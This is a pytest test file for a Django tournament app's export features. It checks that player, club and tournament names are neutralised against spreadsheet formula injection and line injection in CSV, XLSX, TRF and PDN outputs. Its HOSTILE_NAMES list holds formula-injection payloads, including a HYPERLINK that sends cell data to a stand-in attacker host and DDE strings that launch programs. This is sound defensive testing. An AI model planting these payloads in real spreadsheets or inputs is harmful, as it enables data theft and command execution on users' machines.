"""Every export treats what users typed as hostile (issue 15, items 2 and 3).

Spreadsheet outputs (the homologation workbook, the staff tables' CSV/XLSX, the standings CSV, the Swiss Perfect
cross table): no cell a spreadsheet would run as a formula (OWASP: first character ``= + - @``, tab or CR), text
written as text cells, numbers still numbers. Line-based files (TRF, PDN): a name with a line break never starts a
line of its own. Names with control characters stored before they were refused (or by hand in the database)
never make an export fail.
"""

import csv
import io
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from tournaments.core.safetext import FORMULA_TRIGGERS, append_row, neutralise_formula, one_line, spreadsheet_value
from tournaments.entries.services import entry_register
from tournaments.games.services import game_attach_pdn, tournament_pdn
from tournaments.homologation.workbook import homologation_workbook
from tournaments.interchange import crosstable_sp, export_trf
from tournaments.models import Game, Player, Tournament
from tournaments.rounds.results import game_record_result
from tournaments.rounds.selectors import rounds_with_boards
from tournaments.rounds.services import round_pair

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/roubo?d="&A1,"Clique aqui")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
CONTROL_NAME = "Ana\x01Bell\x0bCarla\u2028Dora"  # characters XML (XLSX) cannot hold, and line separators
SAFE_SHAPES = ("-3", "+1.5", "-/+", "+/-", "-/-", "+/-  2-0")


def dangerous(text):
    return isinstance(text, str) and neutralise_formula(text) != text


def test_the_rule_itself():
    for name in HOSTILE_NAMES:
        assert spreadsheet_value(name) == "'" + name.replace("\r", "\n")
    assert spreadsheet_value(" =1+1") == "' =1+1"
    for text in SAFE_SHAPES:  # plain numbers and result codes: nothing a spreadsheet runs
        assert spreadsheet_value(text) == text
    for number in (-3, -2.5, Decimal("-1.5"), 0, None):  # negative numbers written as numbers stay numbers
        assert spreadsheet_value(number) == number
    assert spreadsheet_value("a\x01b\x0bc") == "a\ufffdb\ufffdc"
    assert one_line("Torneio\r\n012 Falso\x00\u2028X") == "Torneio 012 Falso X"


def test_append_row_types_text_as_text():
    wb = Workbook()
    append_row(wb.active, ["=1+1", "#N/A", -3, "ok"])
    buf = io.BytesIO()
    wb.save(buf)
    cells = list(load_workbook(io.BytesIO(buf.getvalue())).active.iter_rows())[0]
    assert [(c.value, c.data_type) for c in cells] == [("'=1+1", "s"), ("#N/A", "s"), (-3, "n"), ("ok", "s")]


@pytest.fixture
def hostile(make_tournament, make_player, director):
    """A single-game tournament whose players, club, city and name are hostile; round 1 played, one game with
    moves. Players are stored with ``objects.create`` (no validation), as data from before the rules would be."""
    t = make_tournament(format="single-game")
    Tournament.objects.filter(pk=t.pk).update(
        name="Aberto\n012 Torneio Falso",
        city='=HYPERLINK("http://evil.example")\r\n[Event "x"]',
        chief_arbiter="@SUM(A1)\n102 Outro",
    )
    t.refresh_from_db()
    names = [*HOSTILE_NAMES, CONTROL_NAME, "Maria\n001    9 m    Injetado"]
    entries = []
    for i, name in enumerate(names):
        player = make_player(name=name, rating=2000 - 10 * i, club="=cmd|' /C calc'!A0", state="PE")
        entries.append(entry_register(tournament=t, player=player, user=director))
    rnd = round_pair(tournament=t, user=director, publish=True)
    for board in rnd.boards.all():
        game_record_result(board=board, results={1: "1-0"}, expected_version=board.version, user=director)
    game = Game.objects.get(board__round=rnd, board__number=1, number=1)
    game_attach_pdn(game=game, pdn="1. 22-18 11-15 2. 18x11 8x15", user=director)
    return t


def workbook_strings(data):
    wb = load_workbook(io.BytesIO(data))
    return [(ws.title, c) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def assert_no_formula(cells):
    bad = [(where, c.value) for where, c in cells if c.data_type == "f" or dangerous(c.value)]
    assert not bad, bad
    strings = [c for _w, c in cells if isinstance(c.value, str)]
    assert all(c.data_type == "s" for c in strings), {c.data_type for c in strings}


def test_homologation_workbook(hostile, client, director):
    client.force_login(director)
    r = client.get(reverse("staff:download", args=[hostile.slug, "xlsx"]))
    assert r.status_code == 200
    cells = workbook_strings(r.content)
    assert_no_formula(cells)
    values = {c.value for _w, c in cells}
    for name in HOSTILE_NAMES:
        assert "'" + name.replace("\r", "\n") in values, name  # a carriage return is written as a line feed
    assert "Ana\ufffdBell\ufffdCarla\u2028Dora" in values  # the illegal characters replaced, not a 500
    # Numbers are still numbers: ratings, pairing numbers, points.
    participants = [c for w, c in cells if w == "Participantes" and c.column == 8 and c.row > 1]
    assert participants and all(c.data_type == "n" for c in participants)


def test_homologation_workbook_built_directly_never_fails_on_control_characters(hostile):
    buf = io.BytesIO()
    homologation_workbook(hostile).save(buf)
    assert_no_formula(workbook_strings(buf.getvalue()))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_staff_table_exports(hostile, client, director, fmt):
    client.force_login(director)
    urls = [
        reverse("staff:entries", args=[hostile.slug]) + f"?_export={fmt}",
        reverse("staff:round", args=[hostile.slug, 1]) + f"?_export={fmt}",
        reverse("staff:standings", args=[hostile.slug]) + f"?_export={fmt}",
    ]
    for url in urls:
        r = client.get(url)
        assert r.status_code == 200, url
        if fmt == "xlsx":
            cells = workbook_strings(r.content)
            assert_no_formula(cells)
            values = [c.value for _w, c in cells]
        else:
            text = r.content.decode("utf-8-sig")  # Excel pt-BR's CSV: a BOM, ";" between cells (issue 28.11)
            values = [v for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for v in row]
            assert not [v for v in values if dangerous(v)], url
        assert "'" + HOSTILE_NAMES[0] in values, url


def test_standings_csv_command(hostile):
    out = io.StringIO()
    call_command("standings", hostile.slug, "--format", "csv", stdout=out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(rows) == 1 + 9 and {len(row) for row in rows} == {len(rows[0])}  # no line injected
    names = [row[2] for row in rows[1:]]
    assert "'" + HOSTILE_NAMES[1] in names
    assert not [v for row in rows for v in row if dangerous(v)]


def test_swiss_perfect_cross_table(hostile, client, director):
    text = crosstable_sp(hostile)
    assert "\n" not in text.replace("\r\n", "") and "\r" not in text.replace("\r\n", "")  # CRLF only
    lines = text.removesuffix("\r\n").split("\r\n")
    # the header, a blank line, one line per player: no name spills onto a line of its own
    assert len(lines) == 1 + 1 + 9 and lines[1] == ""
    width = len(lines[0].split("\t"))
    for line in lines[2:]:
        cells = line.split("\t")
        assert len(cells) == width, line
        assert not [c for c in cells if dangerous(c.strip())], line
    assert any(line.split("\t")[1].strip() == "'" + HOSTILE_NAMES[0] for line in lines[2:])
    client.force_login(director)
    assert client.get(reverse("staff:download", args=[hostile.slug, "crosstable"])).status_code == 200


def test_trf_lines_cannot_be_injected(hostile):
    text = export_trf(hostile)
    lines = text.rstrip("\n").split("\n")
    assert [line[:3] for line in lines].count("012") == 1
    assert [line[:3] for line in lines].count("102") == 1
    assert sum(1 for line in lines if line.startswith("001")) == 9  # nine players, not ten
    assert lines[0] == "012 Aberto 012 Torneio Falso"
    assert all(line.isprintable() for line in lines)


def test_pdn_tags_cannot_be_injected(hostile):
    text = tournament_pdn(hostile, rounds_with_boards(hostile))
    tag_lines = [line for line in text.split("\n") if line.startswith("[")]
    assert [line.split(" ")[0] for line in tag_lines].count("[Event") == 1
    assert '[Event "Aberto 012 Torneio Falso"]' in tag_lines
    assert all(line.endswith('"]') and line.isprintable() for line in tag_lines), tag_lines
    assert not [line for line in text.split("\n") if line.startswith("001")]


def test_player_names_round_trip_untouched_in_the_database(hostile):
    # Only the outputs are neutralised: the stored name is what was typed.
    assert Player.objects.filter(name=HOSTILE_NAMES[0]).exists()


def test_formula_triggers_are_owasps():
    assert set(FORMULA_TRIGGERS) >= {"=", "+", "-", "@", "\t", "\r"}
